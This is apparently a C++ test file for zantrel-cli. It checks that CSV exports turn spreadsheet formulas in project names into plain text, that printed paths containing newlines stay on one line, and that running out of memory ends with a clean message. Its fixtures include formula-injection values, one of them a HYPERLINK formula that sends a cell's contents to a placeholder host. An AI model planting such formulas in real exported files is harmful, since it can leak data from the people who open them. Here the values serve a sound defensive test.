// What zantrel-cli's outputs promise when the text they carry is hostile or huge: formulas stay
// text for spreadsheets, printed paths stay one line, and memory running out while writing ends
// the run with a message instead of killing it.
#include "support_files/FileBytes.h"
#include "support_files/FixtureLibraries.h"
#include "support_files/IndependentReaders.h"
#include "support_files/LimitableCli.h"
#include "support_files/TempPrefix.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <gtest/gtest.h>

namespace {

// The cells of `csv` as LibreOffice reads them when it opens the file (formulas evaluated) and
// writes it again as CSV: a formula comes back as its value, text as it was.
bool libreOfficeReadsBack(const QByteArray& csv, QList<QStringList>* rows, QString* error)
{
    QTemporaryDir in, out, profile;
    const QString input = in.filePath("lista.csv");
    QFile file(input);
    if (!file.open(QIODevice::WriteOnly) || file.write(csv) != csv.size())
        return false;
    file.close();
    QProcess soffice;
    soffice.start("soffice", {"-env:UserInstallation=file://" + profile.path(), "--headless", "--norestore",
                              "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", out.path(), input});
    if (!soffice.waitForFinished(180000))
        return false;
    *error = QString::fromUtf8(soffice.readAllStandardOutput() + soffice.readAllStandardError());
    const QStringList written = QDir(out.path()).entryList({"*.csv"}, QDir::Files);
    if (written.size() != 1)
        return false;
    QFile result(out.filePath(written[0]));
    if (!result.open(QIODevice::ReadOnly))
        return false;
    rows->clear();
    // The test's texts hold no quotes or commas: a field is split at commas, its quotes dropped.
    for (const QByteArray& line : result.readAll().split('\n')) {
        if (!line.isEmpty())
{
            QStringList fields = QString::fromUtf8(line).remove(u'\r').split(u',');
            for (QString& field : fields) {
                if (field.size() >= 2 && field.startsWith(u'"') && field.endsWith(u'"'))
                    field = field.mid(1, field.size() - 2);
            }
            rows->append(fields);
        }
    }
    return true;
}

}

TEST(CliOutputs, FormulasInProjectTextStayTextInTheCsvThatLibreOfficeOpens)
{
    REQUIRE_JUDGE(HaveLibreOffice(), "LibreOffice");
    TempPrefix prefix;
    prefix.writeLines("tmp/a.vbp", {"Type=Exe", "Name=\"=1+41\""});
    prefix.writeLines("tmp/b.vbp", {"Type=Exe", "Name=\"@SUM(1;2)\""});
    prefix.writeLines("tmp/c.vbp", {"Type=Exe", "Name=\"-3\""});
    QByteArray out, err;
    ASSERT_EQ(RunCli({"catalogue", "--format", "csv", "c:\\tmp\\"}, prefix.root(), &out, &err), 0) << err.constData();
    QList<QStringList> rows;
    QString error;
    ASSERT_TRUE(libreOfficeReadsBack(out, &rows, &error)) << error.toStdString();
    ASSERT_EQ(rows.size(), 4) << error.toStdString();
    EXPECT_EQ(rows[1][3], "'=1+41") << "text, not the value 42";
    EXPECT_EQ(rows[2][3], "'@SUM(1;2)");
    EXPECT_EQ(rows[3][3], "-3") << "a number stays a number";

    // The judge does evaluate formulas: --csv-raw hands the field over as it is, and LibreOffice
    // computes it.
    ASSERT_EQ(RunCli({"catalogue", "--format", "csv", "--csv-raw", "c:\\tmp\\"}, prefix.root(), &out, &err), 0);
    EXPECT_TRUE(out.contains("\r\n1,a.vbp,1,=1+41,")) << out.constData();
    ASSERT_TRUE(libreOfficeReadsBack(out, &rows, &error)) << error.toStdString();
    ASSERT_EQ(rows.size(), 4);
    EXPECT_EQ(rows[1][3], "42");
}

TEST(CliOutputs, AHyperlinkFormulaInANameIsWrittenAsText)
{
    TempPrefix prefix;
    prefix.writeLines("tmp/a.vbp", {"Type=Exe", "Name=\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\""});
    QByteArray out, err;
    ASSERT_EQ(RunCli({"catalogue", "--format", "csv", "c:\\tmp\\"}, prefix.root(), &out, &err), 0) << err.constData();
    const QList<QByteArray> lines = out.split('\n');
    ASSERT_GE(lines.size(), 2);
    EXPECT_TRUE(lines[1].startsWith("1,a.vbp,1,\"'=")) << lines[1].constData();
    EXPECT_FALSE(out.contains(",=")) << out.constData();
}

TEST(CliOutputs, TheExportedWorkbooksPathStaysOneLine)
{
    TempPrefix prefix;
    prefix.writeLines("tmp/a.vbp", {"Type=Exe", "Name=\"Alfa\""});
    const QString folder = prefix.hostPath("sal\nida\rx");
    ASSERT_TRUE(QDir().mkpath(folder));
    QByteArray out, err;
    ASSERT_EQ(RunCli({"export", "c:\\tmp\\", "-o", folder}, prefix.root(), &out, &err), 0) << err.constData();
    EXPECT_TRUE(QFileInfo::exists(folder + "/proyectos.xls"));
    EXPECT_EQ(out.count('\n'), 1) << out.constData();
    EXPECT_FALSE(out.contains('\r')) << out.constData();
    EXPECT_TRUE(out.endsWith("sal\\nida\\rx/proyectos.xls\n")) << out.constData();

    // The saved report's path likewise; a "." in its folder's name is no extension.
    const QString dotted = folder + "/dir.d";
    ASSERT_TRUE(QDir().mkpath(dotted));
    ASSERT_EQ(RunCli({"report", "c:\\tmp\\", "--summary", "-o", dotted + "/informe"}, prefix.root(), &out, &err), 0)
        << err.constData();
    EXPECT_EQ(out.count('\n'), 1) << out.constData();
    EXPECT_TRUE(out.endsWith("sal\\nida\\rx/dir.d/informe.rtf\n")) << out.constData();
    EXPECT_TRUE(readAll(dotted + "/informe.rtf").startsWith("{\\rtf1"));
}

TEST(CliOutputs, RunningOutOfMemoryWhileWritingEndsWithAMessageNotAnAbort)
{
    REQUIRE_JUDGE(!QStandardPaths::findExecutable("prlimit").isEmpty(), "util-linux's prlimit");
    const QString cli = AddressLimitableCli();
    REQUIRE_JUDGE(!cli.isEmpty(), "a zantrel-cli without AddressSanitizer (ZANTREL_UNSANITIZED_CLI)");
    // A 1 MB Name and 400 references to a library found at its written path: each of the 400
    // records carries the Name, 420 MB of TSV (840 MB as one QString), beyond the 700 MB of
    // address space the run may take; a record at a time it fits.
    TempPrefix prefix;
    prefix.writeFile("lib/nominas.tlb", FixtureLibraries::Bytes("nominas.tlb"));
    QByteArray project = "Type=Exe\r\nName=\"" + QByteArray(1024 * 1024, 'N') + "\"\r\n";
    for (int i = 0; i < 400; ++i)
        project += ("Reference=*\\G" + FixtureLibraries::Nominas + "#1.a#0#C:\\lib\\nominas.tlb#N\r\n").toLatin1();
    prefix.writeFile("tmp/big.vbp", project);
    {
        // Without a limit: the whole listing is written, its size counted, not kept.
        QByteArray out, err;
        ASSERT_EQ(RunCli({"catalogue", "c:\\tmp\\"}, prefix.root(), &out, &err, {"sh", "-c", "\"$@\" | wc -c", "sh"}), 0)
            << err.constData();
        EXPECT_GT(out.trimmed().toLongLong(), 400LL * 1024 * 1024) << "every record carries the Name";
    }
    for (const char* format : {"tsv", "csv", "json"}) {
        QByteArray out, err;
        // Standard output goes to /dev/null: the test need not hold what it writes.
        const int status = RunCli({"catalogue", "--format", format, "c:\\tmp\\"}, prefix.root(), &out, &err,
                                  {"sh", "-c", "shift; exec prlimit --as=734003200 \"$0\" \"$@\" > /dev/null", cli});
        EXPECT_TRUE(status == 0 || status == 1) << format << ": status " << status << "\n" << err.left(2000).constData();
        if (status == 1)
            EXPECT_TRUE(err.endsWith("zantrel-cli: out of memory while writing the output\n")) << err.left(2000).constData();
        else
            EXPECT_TRUE(err.isEmpty()) << err.left(2000).constData();
    }
}
